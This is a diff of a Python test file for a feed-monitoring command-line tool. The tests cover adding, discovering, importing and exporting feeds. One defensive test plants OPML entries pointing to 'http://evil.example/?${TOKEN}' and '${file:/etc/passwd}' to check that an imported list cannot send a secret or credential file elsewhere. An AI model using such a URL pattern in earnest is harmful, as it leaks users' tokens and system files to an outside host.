@@ -3,6 +3,10 @@
 from __future__ import annotations
 
 import json
+import os
+import select
+import subprocess
+import sys
 from collections.abc import Iterator, Mapping
 from pathlib import Path
 
@@ -44,12 +48,15 @@ PAGES: dict[str, bytes] = {
     "/none/": b"<html><body><p>Hello</body></html>",
     "/common/": b"<html><body><p>Hello</body></html>",
     "/common/feed": rss("Common"),
+    "/news": b"<html><body><main><h2><a href=/1>The tide is late</a></h2><a href=/2>Ferry sails again</a>",
 }
 
 
 @pytest.fixture
 def web() -> Iterator[Site]:
     def answer(path: str, asked: Mapping[str, str]) -> Answer:
+        if path == "/moved":
+            return Answer(status=301, headers={"Location": "/harbour.xml"})
         body = PAGES.get(path)
         if body is None:
             return Answer(status=404)
@@ -81,7 +88,9 @@ def test_a_feed_is_added_by_its_title_and_all_else_stays(desk: Path, web: Site) 
 
 
 def test_of_a_site_s_address_the_feed_that_it_offers_is_added(desk: Path, web: Site) -> None:
-    assert monitor("feeds", "add", f"{web.base}/one", "--name", "The Harbour", at=desk).returncode == 0
+    # Without its scheme it is asked by https, and by http where nobody answers to that.
+    bare = f"{web.base}/one".removeprefix("http://")
+    assert monitor("feeds", "add", bare, "--name", "The Harbour", at=desk).returncode == 0
     (_, added) = load(desk / "feeds.yaml", {}).feeds
     assert (added.name, added.url) == ("The Harbour", f"{web.base}/harbour.xml")
 
@@ -90,6 +99,26 @@ def test_of_several_feeds_none_is_taken_without_being_asked(desk: Path, web: Sit
     done = monitor("feeds", "add", f"{web.base}/two", at=desk)
     assert (done.returncode, said(desk)) == (2, HEAD)
     assert f"monitor feeds add {web.base}/ferries.xml" in done.stderr
+
+
+def test_at_a_terminal_somebody_is_asked_which_of_several_it_is_to_be(desk: Path, web: Site) -> None:
+    master, slave = os.openpty()
+    command = [sys.executable, "-m", "monitor", "feeds", "add", f"{web.base}/two"]
+    environment = {**os.environ, "TERM": "dumb", "COLUMNS": "100"}
+    with subprocess.Popen(
+        command, cwd=desk, env=environment, stdin=slave, stdout=slave, stderr=slave, start_new_session=True
+    ) as running:
+        os.close(slave)
+        heard = b""
+        while b"Which one" not in heard:
+            assert select.select([master], [], [], 60)[0], heard
+            heard += os.read(master, 65536)
+        assert "2  Ferries" in heard.decode()
+        assert "\u202e" not in heard.decode()
+        os.write(master, b"7\n2\n")
+        assert running.wait(60) == 0
+    os.close(master)
+    assert load(desk / "feeds.yaml", {}).feeds[1].url == f"{web.base}/ferries.xml"
 
 
 def test_what_cannot_be_read_is_not_added_unless_somebody_says_so(desk: Path, web: Site) -> None:
@@ -109,24 +138,54 @@ def test_a_feed_that_is_there_already_is_not_added_again(desk: Path, web: Site) 
         assert "already, as First" in done.stderr
 
 
-def test_a_name_that_is_taken_gets_more_to_it(desk: Path, web: Site) -> None:
-    for path in ("/harbour.xml", "/ferries.xml"):
-        monitor("feeds", "add", web.base + path, "--name", "First", at=desk)
-    names = [one.name for one in load(desk / "feeds.yaml", {}).feeds]
-    assert names[:2] == ["First", f"First ({web.base.removeprefix('http://')})"]
-    assert len(set(names)) == 3
+def test_a_name_that_somebody_gives_twice_is_refused(desk: Path, web: Site) -> None:
+    done = monitor("feeds", "add", f"{web.base}/harbour.xml", "--name", "first", at=desk)
+    assert (done.returncode, said(desk), web.requests) == (2, HEAD, [])
+    assert "another feed has this name (http://127.0.0.1:9/first.xml): give it another one" in done.stderr
 
 
-def test_a_page_or_a_sitemap_is_added_with_what_it_needs(desk: Path) -> None:
-    page = ("feeds", "add", "http://127.0.0.1:9/news", "--name", "Page", "--select", "main a")
-    assert monitor(*page, at=desk).returncode == 0
+def test_a_title_that_is_taken_gets_more_to_it(desk: Path, web: Site) -> None:
+    (desk / "feeds.yaml").write_text(HEAD.replace("First", "harbour & sea"), encoding="utf-8")
+    assert monitor("feeds", "add", f"{web.base}/harbour.xml", at=desk).returncode == 0
+    host = web.base.removeprefix("http://")
+    assert [one.name for one in load(desk / "feeds.yaml", {}).feeds] == [
+        "harbour & sea", f"Harbour & Sea ({host})",
+    ]  # fmt: skip
+
+
+def test_what_would_be_wrong_is_told_before_anybody_is_asked(desk: Path, web: Site) -> None:
+    for more, words in (
+        (("--tag", "tidel"), "tidel"),
+        (("--lang", "english"), "a language (BCP 47)"),
+        (("--select", "main a["), "selector"),
+        (("--select", "main a", "--sitemap"), "not both"),
+    ):
+        done = monitor("feeds", "add", f"{web.base}/harbour.xml", *more, at=desk)
+        assert (done.returncode, said(desk), web.requests) == (2, HEAD, [])
+        assert "feeds.yaml: would be wrong then, and is left as it is: " in done.stderr
+        assert words in done.stderr
+
+
+def test_a_feed_that_has_moved_for_good_is_added_where_it_is_now(desk: Path, web: Site) -> None:
+    assert monitor("feeds", "add", f"{web.base}/moved", at=desk).returncode == 0
+    assert load(desk / "feeds.yaml", {}).feeds[1].url == f"{web.base}/harbour.xml"
+    again = monitor("feeds", "add", f"{web.base}/moved", at=desk)
+    assert (again.returncode, "already, as Harbour & Sea" in again.stderr) == (2, True)
+
+
+def test_a_page_or_a_sitemap_is_tried_and_added_with_what_it_needs(desk: Path, web: Site) -> None:
+    page = ("feeds", "add", f"{web.base}/news", "--name", "Page")
+    wrong = monitor(*page, "--select", "main h6 a", at=desk)
+    assert (wrong.returncode, said(desk)) == (1, HEAD)
+    assert "has the page changed?" in wrong.stderr
+    done = monitor(*page, "--select", "main a", at=desk)
+    assert (done.returncode, done.stdout.endswith("; 2 entries\n")) == (0, True), done
     sitemap = ("feeds", "add", "http://127.0.0.1:9/s.xml", "--name", "Map", "--under", "/news/")
-    assert monitor(*sitemap, at=desk).returncode == 0
+    assert monitor(*sitemap, at=desk).returncode == 1
+    assert monitor(*sitemap, "--no-check", at=desk).returncode == 0
     _, page_feed, map_feed = load(desk / "feeds.yaml", {}).feeds
     assert (page_feed.kind, page_feed.select) == ("page", "main a")
     assert (map_feed.kind, map_feed.under) == ("sitemap", "/news/")
-    wrong = monitor("feeds", "add", "http://127.0.0.1:9/x", "--select", "main a[", at=desk)
-    assert (wrong.returncode, len(load(desk / "feeds.yaml", {}).feeds)) == (2, 3)
 
 
 def test_a_feed_is_removed_by_name_or_address_and_its_neighbours_stay(desk: Path, web: Site) -> None:
@@ -170,6 +229,16 @@ def test_a_site_that_offers_none_is_asked_where_most_have_one(desk: Path, web: S
     assert len([path for path, _ in web.requests if path.startswith("/none/")]) <= 14
 
 
+def test_where_a_site_wants_no_programs_no_address_is_guessed(desk: Path) -> None:
+    def answer(path: str, asked: Mapping[str, str]) -> Answer:
+        return Answer(PAGES["/none/"], headers={"Content-Type": "text/html"})
+
+    with site(answer, robots=lambda: Answer(b"User-agent: *\nDisallow: /f\nDisallow: /r\n")) as running:
+        done = monitor("feeds", "discover", running.base, at=desk)
+    assert done.returncode == 1
+    assert {path for path, _ in running.requests} == {"/", "/robots.txt", "/atom.xml", "/index.xml"}
+
+
 def test_a_site_s_news_sitemap_is_found_by_its_robots(desk: Path) -> None:
     urls = "<url><loc>{0}/a</loc><lastmod>2026-11-18</lastmod></url>"
 
@@ -188,6 +257,7 @@ def test_a_site_s_news_sitemap_is_found_by_its_robots(desk: Path) -> None:
 
     with site(answer, robots=robots) as running:
         done = monitor("feeds", "discover", running.base, at=desk)
+    assert "a sitemap can be read in its place" in done.stdout
     assert f"monitor feeds add {running.base}/news.xml --sitemap" in done.stdout
 
 
@@ -218,7 +288,8 @@ def test_a_list_of_feeds_is_read_in_and_what_is_there_is_passed_over(desk: Path)
     assert [(one.name, one.url) for one in feeds[1:]] == [
         ("潮 <b> & Co", "https://a.example/feed?x=1&y=2"), ("First (b.example)", "https://b.example/feed"),
     ]  # fmt: skip
-    assert said(desk).startswith(HEAD)
+    # Where a list has its folders, they are told above the first feed of each.
+    assert said(desk).startswith(f'{HEAD}  # Ports\n  - name: "潮 <b> & Co"\n')
     assert "root:" not in said(desk)
 
 
@@ -233,6 +304,40 @@ def test_a_list_of_somebody_else_s_reads_no_secret_of_ours(desk: Path, reference
     assert TOKEN not in done.stderr
 
 
+def test_a_list_is_read_from_an_address_or_from_standard_input(desk: Path) -> None:
+    def answer(path: str, asked: Mapping[str, str]) -> Answer:
+        return Answer(OPML.encode(), headers={"Content-Type": "text/x-opml"})
+
+    with site(answer) as running:
+        done = monitor("feeds", "import", f"{running.base}/list.opml", "--dry-run", at=desk)
+    assert (done.returncode, "2 of 5" in done.stdout) == (0, True), done
+    missing = monitor("feeds", "import", "none.opml", at=desk)
+    assert (missing.returncode, "none.opml: cannot be read" in missing.stderr) == (2, True)
+    empty = monitor("feeds", "import", "-", at=desk)
+    assert (empty.returncode, "-: is no OPML" in empty.stderr) == (2, True)
+
+
+def test_a_list_from_elsewhere_cannot_have_a_secret_sent_to_whom_it_likes(desk: Path) -> None:
+    text = "<opml><body><outline text='${TOKEN}' xmlUrl='http://evil.example/?{}'/></body></opml>"
+    for reference in ("${TOKEN}", "${file:/etc/passwd}", "${"):
+        (desk / "in.opml").write_text(text.replace("{}", reference), encoding="utf-8")
+        done = monitor("feeds", "import", "in.opml", at=desk, TOKEN=TOKEN)
+        assert (done.returncode, said(desk)) == (0, HEAD)
+        assert "reads a secret of yours" in done.stderr
+        assert "Added: 0 of 1" in done.stdout
+    (desk / "in.opml").write_text(text.replace("{}", ""), encoding="utf-8")
+    assert monitor("feeds", "import", "in.opml", at=desk, TOKEN=TOKEN).returncode == 0
+    assert load(desk / "feeds.yaml", {}).feeds[1].name == "$ {TOKEN}"
+
+
+def test_a_large_list_is_added_in_one_go(desk: Path) -> None:
+    outlines = "".join(f"<outline text='Same' xmlUrl='https://s{n}.example/feed'/>" for n in range(800))
+    (desk / "in.opml").write_text(f"<opml><body>{outlines}</body></opml>", encoding="utf-8")
+    done = monitor("feeds", "import", "in.opml", at=desk)
+    assert (done.returncode, "Added: 800 of 800" in done.stdout) == (0, True)
+    assert len(load(desk / "feeds.yaml", {}).feeds) == 801
+
+
 @pytest.mark.parametrize("content", [b"", b"hello", b"<html><body>x</body></html>", b"\x00\xff<"])
 def test_what_is_no_list_of_feeds_is_told(desk: Path, content: bytes) -> None:
     (desk / "in.opml").write_bytes(content)
@@ -243,7 +348,7 @@ def test_what_is_no_list_of_feeds_is_told(desk: Path, content: bytes) -> None:
 
 def test_what_is_exported_can_be_read_by_others_and_read_in_again(desk: Path, tmp_path: Path) -> None:
     more = (
-        '  - {name: "潮 <b> & \\"Co\\"", url: "https://a.example/${TOKEN}?a=1&b=2", lang: ja}\n'
+        '  - {name: "潮 <b> & \\"Co\\"", url: "https://a.example/${TOKEN}?a=1&b", lang: ja, tags: [tidal]}\n'
         '  - {name: Page, url: "https://p.example/news", select: "main a"}\n'
     )
     (desk / "feeds.yaml").write_text(HEAD + more, encoding="utf-8")
@@ -264,3 +369,9 @@ def test_what_is_exported_can_be_read_by_others_and_read_in_again(desk: Path, tm
     monitor("feeds", "import", str(desk / "out.opml"), at=other, TOKEN=TOKEN)
     # An address that reads a secret is for whoever wrote it down.
     assert [one.name for one in load(other / "feeds.yaml", {}).feeds][1:] == ["First"]
+    assert (
+        monitor("feeds", "import", str(desk / "out.opml"), "--references", at=other, TOKEN=TOKEN).returncode
+        == 0
+    )
+    ours, theirs = (load(one / "feeds.yaml", {"TOKEN": TOKEN}).feeds for one in (desk, other))
+    assert theirs[1:] == ours[:2]
